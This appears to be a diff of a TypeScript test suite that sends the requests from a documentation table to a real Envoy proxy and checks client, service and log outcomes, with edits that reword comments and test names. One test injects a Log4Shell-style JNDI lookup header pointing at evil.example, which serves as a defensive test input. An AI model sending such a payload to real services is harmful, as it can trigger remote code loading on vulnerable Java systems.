@@ -1,5 +1,5 @@
-// docs/requests.md, executed: every request of its table is sent as bytes to a real Envoy, and what it says of Weir, the
-// client and the service must be so.
+// docs/requests.md, executed: every request of its table is sent as bytes to a real Envoy, and its statements about Weir, the
+// client and the service must be true.
 
 import { readFileSync } from 'node:fs';
 import { connect } from 'node:net';
@@ -30,7 +30,7 @@ function rowsOf(mark: string): Row[] {
 
 const escapes: Readonly<Record<string, string>> = { r: '\r', n: '\n', t: '\t' };
 
-/** The bytes that a cell of the table stands for, with header lines put behind its request line. */
+/** The bytes of a cell of the table, with header lines added after its request line. */
 function bytesOf(cell: string, headerLines: string): Buffer {
   const text = cell
     .replace(/(.)\{(\d+)\}/g, (_, character: string, count: string) => character.repeat(Number(count)))
@@ -41,7 +41,7 @@ function bytesOf(cell: string, headerLines: string): Buffer {
   return Buffer.from(withHeaders, 'latin1');
 }
 
-/** Sends the bytes and gathers what comes until a final status or the end of the connection. */
+/** Sends the bytes and collects what arrives until a final status or the end of the connection. */
 function answerOf(port: number, bytes: Uint8Array): Promise<string> {
   return new Promise((resolve) => {
     const socket = connect(port, '127.0.0.1', () => socket.write(bytes));
@@ -67,7 +67,7 @@ function describeArrival(arrival: Arrival | undefined): string {
   ].join(', ');
 }
 
-/** How often each text occurs, in whatever order they come. */
+/** How often each text occurs, in any order. */
 function countsOf(texts: readonly string[]): ReadonlyMap<string, number> {
   const counts = new Map<string, number>();
   for (const text of texts) counts.set(text, (counts.get(text) ?? 0) + 1);
@@ -90,7 +90,7 @@ describe('docs/requests.md', () => {
       ),
     );
 
-  it('says what client, service and log get', async () => {
+  it('states what client, service and log get', async () => {
     expect(rows.length, `${rows.length} rows`).toBeGreaterThan(30);
     const answers = await sendAll('row');
     for (const [index, { request, client, service }] of rows.entries()) {
@@ -99,14 +99,14 @@ describe('docs/requests.md', () => {
       expect({ client: answers[index], service: arrival }, request).toStrictEqual(expected);
     }
     await front.envoy.logEntry(() => front.envoy.accessLog().length === rows.length);
-    // What the parser refuses has no method in the log; requests sent at once are logged in any order.
+    // Requests that the parser rejects have no method in the log; requests sent at once are logged in any order.
     const refused = front.envoy.accessLog().filter(({ method, details }) => method === null && details !== null);
     const logged = refused.map(({ status, details }) => `closed: \`${status} ${details}\``);
     const told = rows.map(({ client }) => client).filter((client) => client.startsWith('closed'));
     expect(countsOf(logged)).toStrictEqual(countsOf(told));
   });
 
-  it('says whether rules see the request', async () => {
+  it('states whether rules see the request', async () => {
     const answers = await sendAll('attack', 'X-Version: \x24{jndi:ldap://evil.example/a}\r\n');
     for (const [index, { request, weir, client }] of rows.entries()) {
       const isSeen = weir === 'the request';
